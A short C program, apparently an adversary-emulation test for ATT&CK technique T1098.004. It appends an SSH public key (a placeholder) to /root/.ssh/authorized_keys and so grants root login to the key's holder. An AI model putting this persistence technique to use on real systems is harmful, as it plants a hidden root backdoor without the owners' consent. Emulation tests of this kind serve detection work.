/* T1098.004: has a key of his own let him in as root. */
#include "lib.h"

int main(void)
{
    static const char key[] = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA somebody\n";
    CALL(CHDIR, "/root");
    CALL(MKDIRAT, AT_FDCWD, ".ssh", 0700);
    int32_t file = CALL(OPENAT, AT_FDCWD, ".ssh/authorized_keys", O_WRONLY | O_CREAT | O_APPEND, 0600);
    bool well = file >= 0 && write_all(file, key, sizeof key - 1);
    CALL(CLOSE, file);
    print(well ? "done\n" : "no\n");
    return !well;
}
